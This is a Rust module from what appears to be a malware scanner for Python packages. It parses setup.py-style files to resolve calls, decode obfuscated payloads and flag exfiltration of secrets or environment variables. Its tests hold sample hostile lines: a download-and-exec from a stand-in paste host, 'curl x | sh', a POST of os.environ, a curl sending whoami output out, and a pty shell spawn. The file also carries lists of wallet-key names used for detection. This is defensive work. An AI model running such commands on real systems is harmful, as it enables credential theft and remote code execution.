//! Python facts, through RustPython's parser (`rustpython-parser`, chosen over tree-sitter for a
//! typed AST without C code to build, and available on crates.io unlike ruff's parser): calls
//! with their callee resolved through `import … as`, `from … import` and `__import__`, string
//! and bytes literals, and whole environment dumps. Python 2 code (common in old `setup.py`
//! files) does not parse; [`super::text`] then reads it.

use super::{Call, Facts, Lines, fold};
use rustpython_ast::{self as ast, Visitor};
use std::collections::{HashMap, HashSet};

/// Longest string literal read as code of its own.
const MAX_EMBEDDED: usize = 64 * 1024;

/// How deep code inside string literals is read (code in a string in a string …); each
/// decoding layer of an obfuscated payload is one.
const MAX_DEPTH: u32 = 4;

/// Of [`SECRET_NAMES`], those that sign for their owner: whoever holds one owns the wallet or
/// the account.
const SIGNING_KEYS: &[&str] = &["privatekey", "privkey", "secretkey", "mnemonic", "seedphrase", "walletkey"];

/// The option a call carries when it is a program a command line in the code runs.
pub(crate) const COMMAND: &str = "<command>";

/// Most bytes one file's decoders are folded into ([`fold`]), all layers together.
const MAX_DECODED: usize = 4 * 1024 * 1024;

/// Words in a variable's name that say it holds a secret worth stealing (compared in lower
/// case without `_`): keys of wallets and clouds, seed phrases.
const SECRET_NAMES: &[&str] =
    &["privatekey", "privkey", "secretkey", "mnemonic", "seedphrase", "accesskey", "walletkey", "getcredentials"];

/// The facts of one Python file.
pub(crate) fn facts(path: &str, source: &str) -> Facts {
    facts_at(path, source, 0)
}

fn facts_at(path: &str, source: &str, depth: u32) -> Facts {
    let mut walker = Walker {
        lines: Lines::new(source),
        aliases: HashMap::new(),
        consts: HashMap::new(),
        secret_names: HashSet::new(),
        decoded: 0,
        const_bytes: 0,
        in_def: 0,
        facts: Facts::default(),
        depth,
    };
    match rustpython_parser::parse(source, rustpython_parser::Mode::Module, path) {
        Ok(ast::Mod::Module(m)) => {
            walker.facts.parsed = true;
            for stmt in m.body {
                walker.visit_stmt(stmt);
            }
        }
        Ok(_) => walker.facts.parsed = true,
        Err(e) => walker.facts.parse_error = Some(e.to_string()),
    }
    walker.facts
}

struct Walker {
    lines: Lines,
    /// Local names for modules and their members: `sp` → `subprocess`, `system` → `os.system`.
    aliases: HashMap<String, String>,
    /// Names bound to a value that folds to a constant ([`fold`]).
    consts: HashMap<String, Vec<u8>>,
    /// Names bound to a value made from a secret ([`SECRET_NAMES`]).
    secret_names: HashSet<String>,
    /// Bytes folded out of decoders so far ([`MAX_DECODED`]).
    decoded: usize,
    /// Bytes of constants kept in [`Walker::consts`] so far (also at most [`MAX_DECODED`]).
    const_bytes: usize,
    /// How many function bodies enclose the code being read (0: it runs when the module does).
    in_def: u32,
    facts: Facts,
    /// How deep inside string literals this code sits.
    depth: u32,
}

impl Walker {
    fn line(&self, range: ast::text_size::TextRange) -> u32 {
        self.lines.of(range.start().to_usize())
    }

    /// The dotted name an expression stands for: `subprocess.Popen`, `os.environ`,
    /// `__import__("os").system`, `getattr(os, "system")`.
    fn path_of(&self, e: &ast::Expr) -> Option<String> {
        match e {
            ast::Expr::Name(n) => {
                let id = n.id.as_str();
                Some(self.aliases.get(id).cloned().unwrap_or_else(|| id.to_owned()))
            }
            ast::Expr::Attribute(a) => Some(format!("{}.{}", self.path_of(&a.value)?, a.attr.as_str())),
            ast::Expr::Call(c) => match (self.path_of(&c.func).as_deref(), c.args.as_slice()) {
                (Some("__import__" | "importlib.import_module"), [first, ..]) => string(first),
                (Some("getattr"), [object, attr, ..]) => Some(format!("{}.{}", self.path_of(object)?, string(attr)?)),
                // A call's result stands for its callee: `Fernet(k).decrypt` is `fernet.Fernet.decrypt`.
                (callee, _) => callee.map(str::to_owned),
            },
            _ => None,
        }
    }
}

impl Walker {
    /// Code carried in a string literal (written to a file and run, passed to `exec` or to
    /// `python -c`): when it parses as Python, its calls, strings and imports are this file's,
    /// at the literal's line, so `"exec(urlopen(u).read())"` in a string is a download and
    /// execute like the same code outside one.
    fn embedded(&mut self, text: &str, line: u32) {
        if self.depth >= MAX_DEPTH || text.len() < 16 || text.len() > MAX_EMBEDDED || !looks_like_code(text) {
            return;
        }
        let inner = facts_at("<string>", text, self.depth + 1);
        if !inner.parsed {
            return;
        }
        let at = |mut c: Call| {
            c.line = line;
            c
        };
        self.facts.calls.extend(inner.calls.into_iter().map(at));
        self.facts.strings.extend(inner.strings.into_iter().map(|(s, _)| (s, line)));
        self.facts.imports.extend(inner.imports.into_iter().map(|(s, _)| (s, line)));
        self.facts.env_dumps.extend(inner.env_dumps.iter().map(|_| line));
    }

    /// What `e` folds to ([`fold`]), through this file's aliases and constants.
    fn folded(&self, e: &ast::Expr) -> Option<Vec<u8>> {
        let resolve = |e: &ast::Expr| self.path_of(e);
        fold::fold(e, &fold::Scope { resolve: &resolve, consts: &self.consts })
    }

    /// A payload a decoder call folds to: read as a string of the file, and as its code when
    /// it is code. Binary (a marshalled code object) gives its printable runs as strings.
    fn decoded_payload(&mut self, name: &str, call: &ast::ExprCall, line: u32) {
        if self.decoded >= MAX_DECODED {
            return;
        }
        let marshal = name == "marshal.loads";
        let decoder = fold::DECODERS.iter().any(|d| super::name_is(name, d))
            || name.ends_with(".decode")
            || name.ends_with(".join")
            || matches!(name, "bytes" | "bytearray");
        if !marshal && !decoder {
            return;
        }
        let resolve = |e: &ast::Expr| self.path_of(e);
        let scope = fold::Scope { resolve: &resolve, consts: &self.consts };
        let value = if marshal {
            call.args.first().and_then(|a| fold::fold(a, &scope))
        } else {
            fold::fold_call_expr(call, &scope)
        };
        let Some(value) = value else { return };
        self.decoded += value.len();
        if fold::is_text(&value) {
            let text = String::from_utf8_lossy(&value).into_owned();
            self.embedded(&text, line);
            self.facts.strings.push((text, line));
        } else if marshal {
            for run in printable_runs(&value).take(500) {
                self.facts.strings.push((run, line));
            }
        }
    }

    /// What a command line the code runs does, read as a script line is: its programs as
    /// calls marked [`COMMAND`] (so `curl` is a network call and `whoami` a fingerprint), and
    /// the code a `python -c` runs as this file's.
    fn command_facts(&mut self, command: &str, line: u32) {
        // `sh -c "…"`, `cmd /c …`: what the shell is told to run is the command line.
        let mut lines = vec![command.to_owned()];
        let program = command.split_whitespace().next().unwrap_or("").rsplit(['/', '\\']).next().unwrap_or("");
        let program = program.to_ascii_lowercase();
        if matches!(program.trim_end_matches(".exe"), "sh" | "bash" | "zsh" | "dash" | "cmd" | "powershell" | "pwsh")
            && let Some((_, rest)) =
                command.split_once(" -c ").or(command.split_once(" /c ")).or(command.split_once(" -Command "))
        {
            lines.push(rest.trim().trim_matches(['"', '\'']).to_owned());
        }
        let calls: Vec<Call> = lines.iter().flat_map(|l| super::text::shell(l).calls).take(32).collect();
        for mut c in calls {
            // `uname -m`, `-s`, `-r`: a build asking for its platform, not a fingerprint.
            if c.name == "uname" && !c.first.as_deref().is_some_and(|a| a.contains("-a") || a.contains("-n")) {
                continue;
            }
            c.line = line;
            c.options.push(COMMAND.to_owned());
            self.facts.calls.push(c);
        }
        if let Some((interpreter, code)) = command.split_once(" -c ")
            && interpreter.rsplit(['/', '\\', ' ']).next().is_some_and(|p| p.starts_with("python"))
        {
            let code = code.trim().trim_matches(['"', '\'']);
            self.embedded(code, line);
        }
    }

    /// The command line a process call runs, folded from a string, a list of words, an
    /// f-string or a `%`/`+` template; what is not constant shows as `{}`.
    fn command(&self, e: &ast::Expr) -> Option<String> {
        let words = match e {
            ast::Expr::List(l) => l.elts.iter().map(|w| self.command_part(w, 0)).collect::<Vec<_>>().join(" "),
            ast::Expr::Tuple(t) => t.elts.iter().map(|w| self.command_part(w, 0)).collect::<Vec<_>>().join(" "),
            other => self.command_part(other, 0),
        };
        let constant = words.replace("{}", "");
        (constant.trim().len() >= 2).then_some(words)
    }

    fn command_part(&self, e: &ast::Expr, depth: u32) -> String {
        if depth > 8 {
            return "{}".into();
        }
        if let Some(v) = self.folded(e).filter(|v| v.len() <= 64 * 1024) {
            return String::from_utf8_lossy(&v).into_owned();
        }
        match e {
            ast::Expr::JoinedStr(j) => j.values.iter().map(|v| self.command_part(v, depth + 1)).collect(),
            ast::Expr::FormattedValue(_) => "{}".into(),
            ast::Expr::BinOp(b) if matches!(b.op, ast::Operator::Add) => {
                format!("{}{}", self.command_part(&b.left, depth + 1), self.command_part(&b.right, depth + 1))
            }
            ast::Expr::BinOp(b) if matches!(b.op, ast::Operator::Mod) => self.command_part(&b.left, depth + 1),
            ast::Expr::Call(c) if self.path_of(&c.func).is_some_and(|n| n.ends_with(".format")) => {
                match c.func.as_ref() {
                    ast::Expr::Attribute(a) => self.command_part(&a.value, depth + 1),
                    _ => "{}".into(),
                }
            }
            _ => "{}".into(),
        }
    }

    /// Whether `os.environ` itself (not one variable of it) is in the expression: a dict's
    /// value, `dict(os.environ)`, `str(os.environ)`, `{**os.environ}`.
    fn holds_environ(&self, e: &ast::Expr, depth: u32) -> bool {
        if depth > 6 {
            return false;
        }
        let next = |e: &ast::Expr| self.holds_environ(e, depth + 1);
        match e {
            ast::Expr::Name(_) | ast::Expr::Attribute(_) => self.path_of(e).as_deref() == Some("os.environ"),
            ast::Expr::Call(c) => {
                // `os.environ.get("X")` and `os.environ.copy()` are one variable or a copy kept.
                let callee = self.path_of(&c.func).unwrap_or_default();
                matches!(callee.as_str(), "dict" | "str" | "repr" | "json.dumps" | "list") && c.args.iter().any(next)
            }
            // A value, or what `**` spreads into the dict.
            ast::Expr::Dict(d) => d.values.iter().any(next),
            ast::Expr::List(l) => l.elts.iter().any(next),
            ast::Expr::Tuple(t) => t.elts.iter().any(next),
            ast::Expr::JoinedStr(j) => j.values.iter().any(next),
            ast::Expr::FormattedValue(f) => next(&f.value),
            _ => false,
        }
    }

    /// Whether a network call run with the module sends something of the host's: a body,
    /// query or file built from non-constant values, or a URL spliced with what a host call
    /// returned (`"…?u=" + getpass.getuser()`).
    fn sends_host_data(&self, name: &str, node: &ast::ExprCall) -> bool {
        let constant = |e: &ast::Expr| self.folded(e).is_some() || self.all_constant(e, 0);
        let body = node.keywords.iter().any(|k| {
            k.arg.as_ref().is_some_and(|a| matches!(a.as_str(), "data" | "json" | "params" | "files"))
                && !constant(&k.value)
        });
        let posted = name.rsplit('.').next().is_some_and(|m| matches!(m, "post" | "put" | "patch"))
            && node.args.iter().skip(1).any(|a| !constant(a));
        let spliced = node.args.first().is_some_and(|u| self.calls_host(u, 0));
        body || posted || spliced
    }

    fn all_constant(&self, e: &ast::Expr, depth: u32) -> bool {
        if depth > 6 {
            return false;
        }
        match e {
            ast::Expr::Constant(_) => true,
            ast::Expr::Dict(d) => {
                d.keys.iter().flatten().chain(d.values.iter()).all(|x| self.all_constant(x, depth + 1))
                    && d.keys.iter().all(Option::is_some)
            }
            ast::Expr::List(l) => l.elts.iter().all(|x| self.all_constant(x, depth + 1)),
            ast::Expr::Tuple(t) => t.elts.iter().all(|x| self.all_constant(x, depth + 1)),
            _ => self.folded(e).is_some(),
        }
    }

    /// Whether the expression holds a call that reads the host (user, host name, a command's
    /// output, the environment).
    fn calls_host(&self, e: &ast::Expr, depth: u32) -> bool {
        const HOST: &[&str] = &[
            "os.popen",
            "os.getlogin",
            "os.getcwd",
            "os.getenv",
            "os.environ.get",
            "getpass.getuser",
            "socket.gethostname",
            "socket.getfqdn",
            "platform.node",
            "platform.uname",
            "uuid.getnode",
            "subprocess.check_output",
            "subprocess.getoutput",
        ];
        if depth > 8 {
            return false;
        }
        let next = |e: &ast::Expr| self.calls_host(e, depth + 1);
        match e {
            ast::Expr::Call(c) => {
                self.path_of(&c.func).is_some_and(|n| {
                    HOST.iter().any(|h| super::name_is(&n, h) || n.starts_with(&format!("{h}.")) || n == *h)
                }) || next(&c.func)
                    || c.args.iter().any(next)
            }
            ast::Expr::Attribute(a) => next(&a.value),
            ast::Expr::BinOp(b) => next(&b.left) || next(&b.right),
            ast::Expr::JoinedStr(j) => j.values.iter().any(next),
            ast::Expr::FormattedValue(f) => next(&f.value),
            _ => false,
        }
    }

    /// The secret-named identifier an expression holds, if any: a name, an attribute, a
    /// dictionary key or a name bound from one.
    fn secret_in(&self, e: &ast::Expr, depth: u32) -> Option<String> {
        if depth > 8 {
            return None;
        }
        let named = |id: &str| {
            let folded = id.to_ascii_lowercase().replace('_', "");
            (SECRET_NAMES.iter().any(|w| folded.contains(w)) || self.secret_names.contains(id)).then(|| id.to_owned())
        };
        let next = |e: &ast::Expr| self.secret_in(e, depth + 1);
        match e {
            ast::Expr::Name(n) => named(n.id.as_str()),
            ast::Expr::Attribute(a) => named(a.attr.as_str()).or_else(|| next(&a.value)),
            ast::Expr::Call(c) => next(&c.func).or_else(|| c.args.iter().find_map(next)),
            ast::Expr::JoinedStr(j) => j.values.iter().find_map(next),
            ast::Expr::FormattedValue(f) => next(&f.value),
            ast::Expr::Dict(d) => d.keys.iter().flatten().chain(d.values.iter()).find_map(|x| match x {
                ast::Expr::Constant(c) => match &c.value {
                    ast::Constant::Str(k) => named(k),
                    _ => None,
                },
                other => next(other),
            }),
            ast::Expr::List(l) => l.elts.iter().find_map(next),
            ast::Expr::Tuple(t) => t.elts.iter().find_map(next),
            ast::Expr::Set(t) => t.elts.iter().find_map(next),
            ast::Expr::BinOp(b) => next(&b.left).or_else(|| next(&b.right)),
            ast::Expr::Subscript(sub) => next(&sub.value),
            _ => None,
        }
    }

    /// The calls inside an argument, through attributes, subscripts and nested calls:
    /// `requests.get(u).text` holds `requests.get`.
    fn inner_calls(&self, e: &ast::Expr, out: &mut Vec<String>, depth: u32) {
        if depth > 6 || out.len() > 16 {
            return;
        }
        match e {
            ast::Expr::Call(c) => {
                out.extend(self.path_of(&c.func));
                self.inner_calls(&c.func, out, depth + 1);
                for a in &c.args {
                    self.inner_calls(a, out, depth + 1);
                }
            }
            ast::Expr::Attribute(a) => self.inner_calls(&a.value, out, depth + 1),
            ast::Expr::Subscript(s) => self.inner_calls(&s.value, out, depth + 1),
            ast::Expr::BinOp(b) => {
                self.inner_calls(&b.left, out, depth + 1);
                self.inner_calls(&b.right, out, depth + 1);
            }
            _ => {}
        }
    }
}

fn string(e: &ast::Expr) -> Option<String> {
    match e {
        ast::Expr::Constant(c) => match &c.value {
            ast::Constant::Str(s) => Some(s.clone()),
            _ => None,
        },
        _ => None,
    }
}

/// Calls that turn a value into something sent or stored whole.
fn dumps_env(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
    ["dumps", "dump", "post", "put", "send", "sendall", "write", "urlencode", "b64encode", "request", "urlopen"]
        .iter()
        .any(|w| last == *w)
}

impl Visitor for Walker {
    fn visit_stmt_import(&mut self, node: ast::StmtImport) {
        let line = self.line(node.range);
        for a in &node.names {
            let module = a.name.as_str();
            self.facts.imports.push((module.to_owned(), line));
            match &a.asname {
                Some(local) => self.aliases.insert(local.as_str().to_owned(), module.to_owned()),
                None => None,
            };
        }
    }

    fn visit_stmt_import_from(&mut self, node: ast::StmtImportFrom) {
        let line = self.line(node.range);
        let module = node.module.as_ref().map(|m| m.as_str().to_owned()).unwrap_or_default();
        self.facts.imports.push((module.clone(), line));
        for a in &node.names {
            let local = a.asname.as_ref().unwrap_or(&a.name).as_str().to_owned();
            self.aliases.insert(local, format!("{module}.{}", a.name.as_str()));
        }
    }

    fn visit_stmt_assign(&mut self, node: ast::StmtAssign) {
        if let [ast::Expr::Name(target)] = node.targets.as_slice() {
            let id = target.id.as_str().to_owned();
            if let Some(path) = self.path_of(&node.value) {
                self.aliases.insert(id.clone(), path);
            }
            // Constants are kept on their own budget: a module of long literals must not use up
            // what its decoders may fold.
            if self.const_bytes < MAX_DECODED
                && let Some(v) = self.folded(&node.value)
            {
                self.const_bytes += v.len();
                self.consts.insert(id.clone(), v);
            }
            if self.secret_in(&node.value, 0).is_some() {
                self.secret_names.insert(id);
            }
        }
        self.generic_visit_stmt_assign(node);
    }

    fn visit_expr_call(&mut self, node: ast::ExprCall) {
        // A method of a literal (`"".join(chr(c) for c in […])`) names no callee of its own.
        if let ast::Expr::Attribute(a) = node.func.as_ref()
            && matches!(a.value.as_ref(), ast::Expr::Constant(_))
        {
            let line = self.line(node.range);
            self.decoded_payload(&format!("str.{}", a.attr.as_str()), &node, line);
        }
        if let Some(name) = self.path_of(&node.func) {
            let line = self.line(node.range);
            let mut first = node.args.first().and_then(string);
            let spawn = crate::rules::SPAWN.iter().any(|s| super::name_is(&name, s));
            let network = crate::rules::NETWORK.iter().any(|n| super::name_is(&name, n));
            if spawn
                && first.is_none()
                && let Some(command) = node.args.first().and_then(|a| self.command(a))
            {
                self.facts.strings.push((command.clone(), line));
                first = Some(command);
            }
            if spawn && let Some(command) = first.clone() {
                self.command_facts(&command, line);
            }
            if network
                && let Some(secret) =
                    node.args.iter().chain(node.keywords.iter().map(|k| &k.value)).find_map(|a| self.secret_in(a, 0))
            {
                let folded = secret.to_ascii_lowercase().replace('_', "");
                let key = SIGNING_KEYS.iter().any(|k| folded.contains(k));
                let to = node
                    .args
                    .first()
                    .or(node
                        .keywords
                        .iter()
                        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "url"))
                        .map(|k| &k.value))
                    .map(|u| self.command_part(u, 0))
                    .filter(|u| u.starts_with("http://") || u.starts_with("https://"));
                self.facts.secrets_sent.push(super::SecretSent { name: secret, line, key, to });
            }
            self.decoded_payload(&name, &node, line);
            let mut inner = Vec::new();
            for a in node.args.iter().chain(node.keywords.iter().map(|k| &k.value)) {
                self.inner_calls(a, &mut inner, 0);
            }
            let options = node.keywords.iter().filter_map(|k| k.arg.as_ref().map(|a| a.as_str().to_owned())).collect();
            let sent = || node.args.iter().chain(node.keywords.iter().map(|k| &k.value));
            if (dumps_env(&name) || network)
                && self.facts.env_dumps.last() != Some(&line)
                && sent().any(|a| self.holds_environ(a, 0))
            {
                self.facts.env_dumps.push(line);
            }
            if network && self.in_def == 0 && self.sends_host_data(&name, &node) {
                self.facts.module_sends.push(line);
            }
            if matches!(name.as_str(), "__import__" | "importlib.import_module")
                && let Some(module) = &first
            {
                self.facts.imports.push((module.clone(), line));
            }
            self.facts.calls.push(Call { name, line, first, inner, options });
        }
        self.generic_visit_expr_call(node);
    }

    fn visit_stmt_function_def(&mut self, node: ast::StmtFunctionDef) {
        self.in_def += 1;
        self.generic_visit_stmt_function_def(node);
        self.in_def -= 1;
    }

    fn visit_stmt_async_function_def(&mut self, node: ast::StmtAsyncFunctionDef) {
        self.in_def += 1;
        self.generic_visit_stmt_async_function_def(node);
        self.in_def -= 1;
    }

    // The generated visitor stops at these; their expressions hold calls too.
    fn visit_keyword(&mut self, node: ast::Keyword) {
        self.visit_expr(node.value);
    }

    fn visit_comprehension(&mut self, node: ast::Comprehension) {
        self.visit_expr(node.iter);
        for e in node.ifs {
            self.visit_expr(e);
        }
    }

    fn visit_withitem(&mut self, node: ast::WithItem) {
        self.visit_expr(node.context_expr);
    }

    fn visit_match_case(&mut self, node: ast::MatchCase) {
        for s in node.body {
            self.visit_stmt(s);
        }
    }

    fn visit_arguments(&mut self, node: ast::Arguments) {
        for a in node.posonlyargs.into_iter().chain(node.args).chain(node.kwonlyargs) {
            if let Some(d) = a.default {
                self.visit_expr(*d);
            }
        }
    }

    fn visit_expr_constant(&mut self, node: ast::ExprConstant) {
        let text = match node.value {
            ast::Constant::Str(s) => s,
            ast::Constant::Bytes(b) => String::from_utf8_lossy(&b).into_owned(),
            _ => return,
        };
        let line = self.line(node.range);
        self.embedded(&text, line);
        self.facts.strings.push((text, line));
    }
}

/// Runs of at least six printable ASCII characters, as `strings` finds them in a binary.
fn printable_runs(v: &[u8]) -> impl Iterator<Item = String> + '_ {
    v.split(|b| !(b.is_ascii_graphic() || *b == b' '))
        .filter(|r| r.len() >= 6)
        .map(|r| String::from_utf8_lossy(r).into_owned())
}

/// Whether a string holds Python statements worth parsing: it begins like a module (`import`,
/// `from … import`) or calls what runs code. Prose and docstrings that merely mention an
/// import are not parsed, which keeps large documented packages fast.
fn looks_like_code(text: &str) -> bool {
    let start = text.trim_start();
    let begins =
        ["import ", "from ", "exec(", "eval(", "__import__(", "os.system("].iter().any(|p| start.starts_with(p));
    (begins && text.contains('(')) || text.contains("exec(") || text.contains("eval(")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_inside_a_string_is_read_at_the_strings_line() {
        let f = facts(
            "setup.py",
            "from tempfile import NamedTemporaryFile\nt = NamedTemporaryFile(delete=False)\nt.write(b\"\"\"from urllib.request import urlopen as u;exec(u('https://paste.example/raw').read())\"\"\")\n",
        );
        let exec = f.calls.iter().find(|c| c.name == "exec").expect("exec inside the bytes literal");
        assert_eq!(exec.line, 3);
        assert!(exec.inner.iter().any(|i| i == "urllib.request.urlopen"), "{:?}", exec.inner);
        // Prose, and code nested deeper than the bound, are not read as code.
        let prose = facts("a.py", "x = 'Please import the module (see docs) before use.'\n");
        assert!(prose.calls.is_empty());
        let deep = facts(
            "a.py",
            &format!("a = {:?}\n", format!("b = {:?}", format!("c = {:?}", "import os; os.system('id')"))),
        );
        assert!(deep.calls.iter().all(|c| c.name != "os.system"), "{:?}", deep.calls);
    }

    #[test]
    fn callees_resolve_through_imports_and_dunder_import() {
        let f = facts(
            "setup.py",
            r#"import subprocess as sp
from os import system
import base64, os
sp.Popen(["sh", "-c", "x"], start_new_session=True)
system("curl x | sh")
exec(base64.b64decode("aGk="))
__import__("os").popen("id")
requests.post("https://h", data=json.dumps(os.environ))
"#,
        );
        let names: Vec<&str> = f.calls.iter().map(|c| c.name.as_str()).collect();
        for want in ["subprocess.Popen", "os.system", "exec", "os.popen", "requests.post"] {
            assert!(names.contains(&want), "{want} in {names:?}");
        }
        let popen = f.calls.iter().find(|c| c.name == "subprocess.Popen").unwrap();
        assert_eq!((popen.line, popen.options.as_slice()), (4, ["start_new_session".to_owned()].as_slice()));
        let exec = f.calls.iter().find(|c| c.name == "exec").unwrap();
        assert_eq!(exec.inner, ["base64.b64decode"]);
        assert_eq!(f.env_dumps, [8]);
        assert!(f.strings.iter().any(|(s, l)| s == "curl x | sh" && *l == 5));
        assert!(f.parsed);
    }

    #[test]
    fn command_lines_are_read_as_scripts() {
        let f = facts(
            "setup.py",
            "import os, subprocess\nos.system(f'curl -s https://x.example/?u=$(whoami) -o {p}')\nsubprocess.run(['uname', '-m'])\nsubprocess.call(['python3', '-c', 'import socket,pty;pty.spawn(\"/bin/sh\")'])\n",
        );
        let commands: Vec<(&str, u32)> = f
            .calls
            .iter()
            .filter(|c| c.options.iter().any(|o| o == COMMAND))
            .map(|c| (c.name.as_str(), c.line))
            .collect();
        assert!(commands.contains(&("curl", 2)), "{commands:?}");
        assert!(!commands.iter().any(|(n, _)| *n == "uname"), "a build's platform question is no fingerprint");
        assert!(f.calls.iter().any(|c| c.name == "pty.spawn" && c.line == 4), "python -c code is read");
        let popen = f.calls.iter().find(|c| c.name == "os.system").unwrap();
        assert_eq!(popen.first.as_deref(), Some("curl -s https://x.example/?u=$(whoami) -o {}"));
    }

    #[test]
    fn python_2_is_reported_not_fatal() {
        let f = facts("setup.py", "print 'hello'\nexec 'x'\n");
        assert!(!f.parsed);
        assert!(f.parse_error.is_some());
    }
}
